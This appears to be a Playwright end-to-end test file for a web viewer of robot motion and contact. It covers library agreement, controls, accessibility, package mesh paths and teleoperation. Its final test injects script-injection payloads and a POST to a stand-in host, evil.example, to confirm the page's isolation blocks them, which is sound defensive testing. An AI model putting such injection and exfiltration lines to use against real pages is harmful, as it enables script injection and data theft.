import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Scene } from '../../src/index.ts';
import { readCell, readCellMotions } from '../../src/io/index.ts';
import { files } from '../../src/node/index.ts';
import { axeFindings, inTheme } from '../support/shared/axe-findings.ts';
import { LOOK } from '../support/shared/shared-chromium.ts';
import { answered, answeredWithLanes, closePages, ended, factsOf, followed, openedChromium, SMALL, watchedPage } from './opened-viewer.ts';
import { BUILD_PATIENCE, built, ROOT, type Started, started } from './started-command.ts';

const FOLDER = join(ROOT, 'examples/puma-cell');

let browser: Browser | undefined;
let running: Started | undefined;
beforeAll(async () => {
  await built();
  browser = await openedChromium();
  running = await started(['view', `${FOLDER}/cell.json`, `${FOLDER}/across.csv`, '--port', '0', '--no-open']);
}, BUILD_PATIENCE);
afterAll(async () => {
  await closePages(browser);
  await running?.interrupt();
});

/** What the library says in Node. */
async function libraryTime(path: string): Promise<number> {
  const folder = files(FOLDER);
  const cell = await readCell(folder, 'cell.json');
  const { motions } = await readCellMotions(folder, cell, path);
  return new Scene(cell).firstContact(motions, { tolerance: cell.tolerance, clearance: cell.clearance }).time;
}

test('opened by the link of the command: the answer of the library, marked, in an isolated page that asks nobody else', async ({
  skip,
}) => {
  if (browser === undefined || running === undefined) return skip('no Chromium here');
  const [url] = running.urls;
  const { page, faults, asked } = await watchedPage(browser);
  const begun = performance.now();
  await page.goto(url, { waitUntil: 'commit' });
  await page.waitForFunction(
    () => ((window as { inbetweenViewer?: { frames: number } }).inbetweenViewer?.frames ?? 0) > 0,
    undefined,
    LOOK,
  );
  console.log(`first picture after ${Math.round(performance.now() - begun)} ms`);
  const facts = await answered(page);
  expect(facts.answer?.result.status).toBe('contact');
  expect(facts.answer?.result.time).toBe(await libraryTime('across.csv'));
  expect(facts.markers).toBeGreaterThan(0);
  expect(facts.time).toBe(facts.answer?.result.time);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  expect(await page.getByTestId('headline').innerText()).toContain('4.4345');
  const { origin } = new URL(url);
  expect(asked.filter((address) => !address.startsWith(`${origin}/`) && !/^(blob|data):/.test(address))).toEqual([]);
  expect(asked).toContain(`${origin}/files/cell.json`);
  expect(faults).toEqual([]);
  await page.context().close();
});

test('opened at its root: the cell of the command; scrubbing and stepping move time, jumping goes back to the contact', async ({
  skip,
}) => {
  if (browser === undefined || running === undefined) return skip('no Chromium here');
  const { page, faults } = await watchedPage(browser, SMALL);
  await page.goto(new URL(running.urls[0]).origin);
  const { answer, title } = await answered(page);
  expect(title).toBe('puma-cell');
  await page.getByTestId('to-start').click();
  expect((await factsOf(page)).time).toBe(0);
  await page.getByTestId('time-slider').fill('500');
  const { time } = await factsOf(page);
  expect(time).toBeGreaterThan(1);
  await page.getByTestId('step-on').click();
  expect((await factsOf(page)).time).toBeGreaterThan(time);
  await page.getByTestId('to-contact').click();
  expect((await factsOf(page)).time).toBe(answer?.result.time);
  expect(faults).toEqual([]);
  await page.context().close();
});

/** Every screen, and how one comes there from the one before. */
const SCREENS: readonly (readonly [string, (page: Page) => Promise<unknown>])[] = [
  ['answer', async () => {}],
  ...['move', 'gallery', 'layers', 'info'].map((id) => [id, (page: Page) => page.getByTestId(`tab-${id}`).click()] as const),
  ['share', (page) => page.getByTestId('open-share').click()],
  [
    'help',
    async (page) => {
      await page.keyboard.press('Escape');
      await page.getByTestId('open-help').click();
    },
  ],
  [
    'by hand',
    async (page) => {
      await page.keyboard.press('Escape');
      await page.getByTestId('open-by-hand').click();
      await page.getByTestId('teleoperation-level').waitFor();
    },
  ],
];

test('axe finds nothing on any screen, light or dark, wide or of two phones', async ({ skip }) => {
  if (browser === undefined || running === undefined) return skip('no Chromium here');
  const { page } = await followed(browser, running.urls[0], SMALL);
  await answeredWithLanes(page);
  const found: unknown[] = [];
  for (const size of [SMALL, { width: 390, height: 844 }, { width: 360, height: 640 }]) {
    const { width } = size;
    await page.setViewportSize(size);
    // on a phone those that look otherwise there
    const screens = width > 860 ? SCREENS : SCREENS.filter(([name]) => ['answer', 'gallery', 'share', 'help'].includes(name));
    for (const [screen, open] of screens) {
      await open(page);
      for (const theme of ['light', 'dark'] as const) {
        await inTheme(page, theme);
        const findings = await axeFindings(page, theme === 'light' ? 'all' : 'colours');
        found.push(...findings.map((finding) => ({ width, screen, theme, ...finding })));
      }
    }
    await page.keyboard.press('Escape');
  }
  expect(found).toEqual([]);
  await inTheme(page, 'light');
  await page.setViewportSize(SMALL);
});

test('a robot whose meshes are in a package: the link says where, and nothing is asked for that is not there', async ({ skip }) => {
  if (browser === undefined) return skip('no Chromium here');
  const out = mkdtempSync(join(tmpdir(), 'inbetween-package-'));
  const folder = join(out, 'arm_description');
  cpSync(join(FOLDER, 'meshes'), join(folder, 'meshes'), { recursive: true });
  mkdirSync(join(folder, 'urdf'));
  const urdf = readFileSync(join(FOLDER, 'puma.urdf'), 'utf8').replaceAll(
    'filename="meshes/',
    'filename="package://arm_description/meshes/',
  );
  writeFileSync(join(folder, 'urdf', 'arm.urdf'), urdf);
  const own = await started(['view', join(folder, 'urdf', 'arm.urdf'), '--port', '0', '--no-open']);
  try {
    expect(own.urls[0]).toMatch(/#source=address&main=files\/urdf\/arm\.urdf&package=arm_description%3Afiles$/);
    const { page, faults } = await watchedPage(browser, SMALL);
    const refused: string[] = [];
    page.on('response', (response) => {
      if (!response.ok()) refused.push(`${response.status()} ${response.url()}`);
    });
    await page.goto(own.urls[0]);
    expect((await ended(page)).title).toBe('arm');
    expect(refused).toEqual([]);
    expect(faults).toEqual([]);
    await page.context().close();
  } finally {
    await own.interrupt();
    rmSync(out, { recursive: true, force: true });
  }
});

test('a tool moved by hand: lowered by a key it touches and is pressed back; closed, nothing of it is left', async ({ skip }) => {
  if (browser === undefined || running === undefined) return skip('no Chromium here');
  const { page, faults } = await followed(browser, running.urls[0], SMALL);
  await answered(page);
  await page.getByTestId('open-by-hand').click();
  await page.getByTestId('teleoperation-picture').focus();
  await page.keyboard.down('f');
  await page.getByTestId('teleoperation-level').getByText('in contact').waitFor();
  const pressed = (least: number, most: number) =>
    page.waitForFunction(
      ([from, to]) => {
        const newtons = Number.parseFloat(document.querySelector('[data-testid=teleoperation-force]')?.textContent ?? '');
        return newtons >= from && newtons <= to;
      },
      [least, most],
      LOOK,
    );
  await pressed(1, 41);
  await page.keyboard.up('f');
  await page.keyboard.down('r');
  await pressed(0, 0);
  await page.keyboard.up('r');
  await page.keyboard.press('Escape');
  await page.getByTestId('by-hand').waitFor({ state: 'detached' });
  // keys that moved the tool did not move time
  expect((await factsOf(page)).time).toBe(await libraryTime('across.csv'));
  expect(faults).toEqual([]);
});

test('what gets into the page all the same neither runs nor leaves', async ({ skip }) => {
  if (browser === undefined || running === undefined) return skip('no Chromium here');
  const { page } = await followed(browser, running.urls[0], SMALL);
  const reached: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await answered(page);
  const ran = await page.evaluate(async () => {
    const box = document.createElement('div');
    box.innerHTML = '<img src="https://evil.example/a.png" onerror="window.ran = 1"><iframe src="https://evil.example/"></iframe>';
    document.body.append(box);
    const script = document.createElement('script');
    script.textContent = 'window.ran = 2';
    document.body.append(script);
    const left = await fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
      () => true,
      () => false,
    );
    return [(window as { ran?: number }).ran ?? 0, left];
  });
  expect(ran).toEqual([0, false]);
  expect(reached).toEqual([]);
  await page.context().close();
});
